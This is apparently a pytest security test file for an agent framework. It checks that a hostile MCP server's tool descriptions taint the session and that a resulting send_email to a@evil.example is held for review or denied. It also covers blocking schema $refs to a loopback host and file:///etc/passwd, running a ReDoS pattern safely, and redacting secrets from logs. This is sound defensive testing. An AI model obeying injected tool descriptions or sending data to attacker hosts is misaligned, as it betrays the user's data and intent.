"""Issue 32, MCP metadata is third-party text: a server's tool descriptions mark the session, its input
schemas cannot make the kernel fetch or hang, and its command line or URL never leaves a secret behind.

A real streamable HTTP MCP server (the SDK's, :file:`_rt32_mcp_server.py`) on 127.0.0.1 sends a hostile
description, ``$ref`` s to a loopback listener and to ``file:///etc/passwd``, and the pattern ``^(a+)+$``.
"""

from __future__ import annotations

import os
import socket
import stat
import subprocess
import sys
import threading
import time
import types
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from nbagent import Agent, ToolCall, tool
from nbagent.approval import ApprovalResult
from nbagent.mcp import MCPServer, shutdown
from nbagent.mcp._tools import MCPTool
from nbagent.policy import Policy
from nbagent.providers import ScriptedProvider
from nbagent.tools import ArgumentError

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
SECRET = "Zx9SECRETvalue4242"
TOKEN = "Qw7SECRETtoken8181"
BEARER = "Bq3SECRETbearer5757"


@pytest.fixture(autouse=True)
def _stop_servers() -> Iterator[None]:
    yield
    shutdown()


@pytest.fixture(scope="module")
def ref_listener() -> Iterator[tuple[int, list[str]]]:
    """A loopback HTTP listener that counts what is asked of it (a fetched $ref would land here)."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            body = b'{"type": "string"}'
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            pass

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield httpd.server_address[1], hits
    httpd.shutdown()


@pytest.fixture(scope="module")
def hostile_url(ref_listener: tuple[int, list[str]]) -> Iterator[str]:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    proc = subprocess.Popen(
        [sys.executable, str(HERE / "_rt32_mcp_server.py"), str(port), str(ref_listener[0])],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.5):
                break
        except OSError:
            if proc.poll() is not None:
                raise RuntimeError(proc.stderr.read().decode() if proc.stderr else "the server exited") from None
            time.sleep(0.1)
    yield f"http://127.0.0.1:{port}/mcp"
    proc.terminate()
    proc.wait(10)


def _mailer(sent: list[str]) -> Any:
    @tool
    def send_email(to: str, body: str) -> str:
        """Send an email."""
        sent.append(to)
        return "sent"

    return send_email


def test_an_untrusted_servers_tool_description_marks_the_session_and_a_send_goes_to_review(hostile_url: str) -> None:
    # the model obeys the description at once: no tool output has entered the conversation yet
    sent: list[str] = []
    asked: list[Any] = []

    def approve(request: Any) -> ApprovalResult:
        asked.append(request)
        return ApprovalResult(approved=False, reason="no")

    server = MCPServer.http(hostile_url, name="hostile")
    call = ToolCall("send_email", {"to": "a@evil.example", "body": "the report"}, "c1")
    agent = Agent(
        ScriptedProvider([call, "done"]), tools=[server, _mailer(sent)], policy=Policy(allow=["*"]), approve=approve
    )
    agent.run("the weekly report")
    assert agent.provenance.tainted
    assert agent.provenance.source is not None and "hostile" in agent.provenance.source.describe()
    assert sent == [] and len(asked) == 1 and asked[0].decision.layer == "provenance"
    assert "hostile" in asked[0].decision.rule

    headless = Agent(ScriptedProvider([call, "done"]), tools=[server, _mailer(sent)], policy=Policy(allow=["*"]))
    result = headless.run("the weekly report")
    assert sent == [] and result.call_records[0].status == "denied"
    events = [e for e in result.events if e.kind == "untrusted-content"]
    assert events and "hostile" in events[0].source


def test_a_server_the_person_trusts_in_code_does_not_mark_it(hostile_url: str) -> None:
    sent: list[str] = []
    server = MCPServer.http(hostile_url, name="hostile", trusted_metadata=True)
    call = ToolCall("send_email", {"to": "boss@corp.example", "body": "the report"}, "c1")
    agent = Agent(ScriptedProvider([call, "done"]), tools=[server, _mailer(sent)], policy=Policy(allow=["*"]))
    agent.run("the weekly report")
    assert not agent.provenance.tainted and sent == ["boss@corp.example"]


def test_trusted_counts_in_the_users_own_file_never_in_a_projects(hostile_url: str, tmp_path: Path) -> None:
    from nbagent import trust
    from nbagent.mcp import configured_servers
    from nbagent.mcp._config import user_config_path

    path = user_config_path()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(
        f"mcp_servers:\n  mine:\n    url: {hostile_url}\n    trusted: true\n  other:\n    url: {hostile_url}\n"
    )
    project = tmp_path / "cloned"
    (project / ".nbagent").mkdir(parents=True)
    (project / ".nbagent" / "policy.yaml").write_text(
        f"mcp_servers:\n  theirs:\n    url: {hostile_url}\n    trusted: true\n"
    )
    trust(project)  # the person trusts the folder's files: not a vouch for a server's words
    servers = configured_servers(project)
    assert servers["mine"].untrusted_metadata() is None
    assert servers["other"].untrusted_metadata() is not None
    assert servers["theirs"].untrusted_metadata() is not None


def test_schema_references_fetch_nothing_and_the_tools_are_refused(
    hostile_url: str, ref_listener: tuple[int, list[str]]
) -> None:
    ref_port, hits = ref_listener
    server = MCPServer.http(hostile_url, name="hostile")
    names = {t.remote_name for t in server.tools()}
    assert "report" in names and "remote_ref" not in names and "file_ref" not in names
    assert f"http://127.0.0.1:{ref_port}/x.json" in server.refused["remote_ref"]
    assert "'remote_ref' is refused" in server.refused["remote_ref"]
    assert "file:///etc/passwd" in server.refused["file_ref"]
    # a schema that reached validation anyway (the tool made directly): its references resolve to nothing
    for ref in (f"http://127.0.0.1:{ref_port}/x.json", "file:///etc/passwd"):
        schema = {"type": "object", "properties": {"x": {"$ref": ref}}}
        spec = types.SimpleNamespace(name="direct", description="", input_schema=schema, annotations=None)
        with pytest.raises(ArgumentError, match="could not be checked"):
            MCPTool(server, spec).validate({"x": "root"})
    assert hits == []


def test_a_catastrophic_pattern_is_checked_in_linear_time_and_one_re2_cannot_run_is_refused(hostile_url: str) -> None:
    server = MCPServer.http(hostile_url, name="hostile", timeout=1.0)
    tools = {t.remote_name: t for t in server.tools()}
    assert "lookahead" not in tools and "(?=a)" in server.refused["lookahead"]
    assert "'lookahead' is refused" in server.refused["lookahead"]
    match = tools["match"]
    start = time.process_time()
    with pytest.raises(ArgumentError, match="does not match"):
        match.validate({"text": "a" * 23 + "!"})  # Python's re: seconds; RE2: microseconds
    assert time.process_time() - start < 0.3
    start = time.process_time()
    with pytest.raises(ArgumentError, match="does not match"):
        match.validate({"text": "a" * 100_000 + "!"})
    assert time.process_time() - start < 0.3
    assert match.validate({"text": "aaaa"}) == {"text": "aaaa"}
    model = ScriptedProvider([ToolCall("hostile__match", {"text": "a" * 40 + "!"}, "c1"), "ok"])
    start = time.monotonic()
    result = Agent(model, tools=[server], policy=Policy(allow=["*"])).run("match")
    assert time.monotonic() - start < 1.0 and result.call_records[0].status != "ok"


def _private(path: Path) -> bool:
    return stat.S_IMODE(path.stat().st_mode) & 0o077 == 0


def test_command_lines_urls_and_headers_leave_no_secret(hostile_url: str) -> None:
    from nbagent.files._home import mcp_status_dir

    command = [sys.executable, str(ROOT / "tests" / "mcp" / "_slow_server.py"), "--api-key", SECRET]
    stdio = MCPServer.stdio(command, name="slow")
    http = MCPServer.http(f"{hostile_url}?token={TOKEN}", name="tok", headers={"Authorization": f"Bearer {BEARER}"})
    stdio.tools()
    http.tools()
    status = mcp_status_dir() / f"{os.getpid()}.json"
    texts = {
        "repr": repr(stdio) + repr(http),
        "status": status.read_text(),
        "logs": stdio.log_path.read_text() + http.log_path.read_text(),
    }
    for where, text in texts.items():
        for secret in (SECRET, TOKEN, BEARER):
            assert secret not in text, f"{secret} in the {where}"
    assert "--api-key" in texts["logs"] and "[REDACTED" in texts["status"]
    for path in (status, stdio.log_path, http.log_path):
        assert _private(path) and _private(path.parent), path
